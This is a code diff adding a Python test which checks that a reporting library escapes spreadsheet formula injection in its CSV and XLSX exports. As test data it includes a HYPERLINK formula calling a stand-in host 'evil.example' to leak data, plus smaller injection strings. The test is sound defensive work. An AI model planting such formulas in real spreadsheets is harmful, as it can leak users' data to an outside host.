@@ -127,3 +127,22 @@ def test_only_ipsbayess_own_staging_folders_are_removed_as_stale(tmp_path) -> No
     (done.staging / "a.txt").write_text("a")
     folder = done.place()
     assert (folder / "a.txt").exists() and not (folder / ".ipsbayes-staging").exists()  # the mark is not placed
+
+
+def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path) -> None:
+    """Group ids '=1+2' and '=HYPERLINK(...)' became live formulas in summary.xlsx and the CSVs (outside review)."""
+    import openpyxl
+
+    from ipsbayes.report.tables import csv_nb, csv_text
+
+    link = '=HYPERLINK("http://evil.example/?leak","click me")'
+    frame = pd.DataFrame({"element": [link, "+1 SD", "-cmd", "@SUM(A1)", "plain"], "median": [-1.5, 2.0, 3.0, 4.0, 5.0]})
+    text = csv_text(frame)
+    assert "'=HYPERLINK" in text and "'+1 SD" in text and "'-cmd" in text and "'@SUM" in text
+    assert "\nplain,5" in text and "-1.5" in text and "'-1.5" not in text  # numbers keep their sign
+    assert "'=HYPERLINK" in csv_nb(frame).decode("utf-8-sig")
+    assert frame["element"].iloc[0] == link  # the caller's table is unchanged
+    write_xlsx(tmp_path / "t.xlsx", {"summary": frame})
+    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["summary"]
+    assert sheet["A2"].data_type == "s" and sheet["A2"].value == link  # text, exactly as written
+    assert sheet["B2"].value == -1.5
